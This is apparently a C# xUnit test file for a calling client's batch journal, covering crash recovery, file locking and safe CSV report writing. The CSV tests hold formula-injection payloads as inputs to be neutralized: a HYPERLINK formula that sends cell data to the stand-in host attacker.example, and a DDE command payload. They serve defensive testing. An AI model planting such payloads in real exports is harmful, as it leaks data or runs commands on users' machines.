using System;
using System.IO;
using System.Linq;
using RingOut.Client.Batch;
using Xunit;

namespace RingOut.Client.Tests
{
    /// <summary>Issue 24: the bulk run's journal (what a rerun reads back, a torn last line, the lock) and its safe CSV.</summary>
    public sealed class BatchJournalTests : IDisposable
    {
        private readonly string _dir = Directory.CreateTempSubdirectory("ringout-journal-").FullName;
        public void Dispose() => Directory.Delete(_dir, recursive: true);
        private string PathOf(string name) => Path.Combine(_dir, name);
        private static readonly DateTimeOffset T = new DateTimeOffset(2026, 12, 5, 11, 0, 0, TimeSpan.Zero);

        [Fact]
        public void A_rerun_reads_back_every_rows_last_record_and_knows_an_unclean_stop_even_after_a_torn_last_line()
        {
            var path = PathOf("run.journal");
            var fp = BatchJournal.Fingerprint(new[] { "+14155550111", "+14155550112", "+14155550113" });
            using (var j = BatchJournal.Open(path))
            {
                Assert.Equal(0, j.EarlierRuns);
                j.Begin(3, fp, T);
                j.Sending(0, "+14155550111", T);
                j.Refused(2, "+14155550113", "RingOut.ApiError: refused");
                j.Sending(1, "+14155550112", T.AddSeconds(1));
            }
            File.AppendAllText(path, "{\"event\":\"placed\",\"row\":1,\"id\":\"12"); // killed mid-write: the record never finished
            using (var j = BatchJournal.Open(path))
            {
                Assert.Equal(1, j.EarlierRuns);
                Assert.True(j.StoppedUncleanly);
                Assert.Equal(BatchRowPhase.Sending, j.Rows[0].Phase);
                Assert.Equal(BatchRowPhase.Sending, j.Rows[1].Phase); // the torn "placed" does not count
                Assert.Null(j.Rows[1].Id);
                Assert.Equal(BatchRowPhase.Refused, j.Rows[2].Phase);
                j.Begin(3, fp, T.AddMinutes(1));
                j.Released(0, "+14155550111", "session ended");
                j.End(T.AddMinutes(2));
            }
            using (var j = BatchJournal.Open(path))
            {
                Assert.Equal(2, j.EarlierRuns);
                Assert.False(j.StoppedUncleanly);
                Assert.Equal(BatchRowPhase.None, j.Rows[0].Phase); // released: a rerun may place it
                Assert.Throws<BatchJournalMismatchException>(() => j.Begin(3, BatchJournal.Fingerprint(new[] { "+1", "+2", "+3" }), T));
            }
        }

        [Fact]
        public void A_journal_line_of_the_wrong_type_neither_serves_another_input_nor_hides_a_placed_call()
        {
            var path = PathOf("typed.journal");
            var fp = BatchJournal.Fingerprint(new[] { "+14155550111", "+14155550112" });
            File.WriteAllText(path, "{\"event\":\"begin\",\"at\":\"2026-12-05T11:00:00.000Z\",\"rows\":2,\"input\":12345}\n" +
                "{\"event\":\"sending\",\"row\":0,\"to\":\"+14155550111\",\"at\":\"2026-12-05T11:00:00.000Z\"}\n" +
                "{\"event\":\"placed\",\"row\":0,\"to\":\"+14155550111\",\"id\":2343434340,\"at\":\"2026-12-05T11:00:01.000Z\"}\n" +
                "{\"event\":\"placed\",\"row\":1,\"to\":\"+14155550112\",\"id\":[1],\"at\":\"2026-12-05T11:00:02.000Z\"}\n");
            using var j = BatchJournal.Open(path);
            Assert.Equal("2343434340", j.Rows[0].Id); // a number where RingCentral's id is a number: read, as everywhere
            Assert.Equal(BatchRowPhase.Placed, j.Rows[0].Phase);
            Assert.Equal(BatchRowPhase.OutcomeUnknown, j.Rows[1].Phase); // placed, but which call cannot be read: may have rung
            Assert.Throws<BatchJournalMismatchException>(() => j.Begin(2, fp, T)); // an unreadable input serves no input
        }

        [Fact]
        public void A_journal_open_in_one_run_cannot_be_opened_by_another()
        {
            var path = PathOf("locked.journal");
            using (BatchJournal.Open(path))
                Assert.Throws<BatchJournalInUseException>(() => BatchJournal.Open(path));
            using (BatchJournal.Open(path)) { } // released with its holder
        }

        [Theory]
        [InlineData("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")", "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")")]
        [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
        [InlineData("-2+3", "'-2+3")]
        [InlineData("@SUM(A1)", "'@SUM(A1)")]
        [InlineData("\t=1", "'\t=1")]
        [InlineData("\r=1", "'\r=1")]
        [InlineData("Call connected", "Call connected")]
        [InlineData("+14155550123", "+14155550123")] // a number in E.164 is not a formula
        [InlineData("", "")]
        public void Server_text_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(string text, string written) =>
            Assert.Equal(written, SafeCsv.Neutralize(text));

        [Fact]
        public void A_report_is_replaced_in_one_step_and_its_fields_are_quoted()
        {
            var path = PathOf("out.csv");
            File.WriteAllText(path, "old");
            SafeCsv.WriteAtomically(path, SafeCsv.Format(new[] { "Name", "Outcome" }, new[] { new[] { "Ann \"A\"", SafeCsv.Neutralize("=1+1") } }));
            var lines = File.ReadAllLines(path);
            Assert.Equal("\"Name\",\"Outcome\"", lines[0].TrimStart('\uFEFF'));
            Assert.Equal("\"Ann \"\"A\"\"\",\"'=1+1\"", lines[1]);
            Assert.Single(Directory.GetFiles(_dir)); // no temporary file left beside it
            Assert.ThrowsAny<IOException>(() => SafeCsv.CheckWritable(Path.Combine(_dir, "missing", "out.csv")));
            Assert.ThrowsAny<IOException>(() => SafeCsv.CheckWritable(_dir));
        }
    }
}
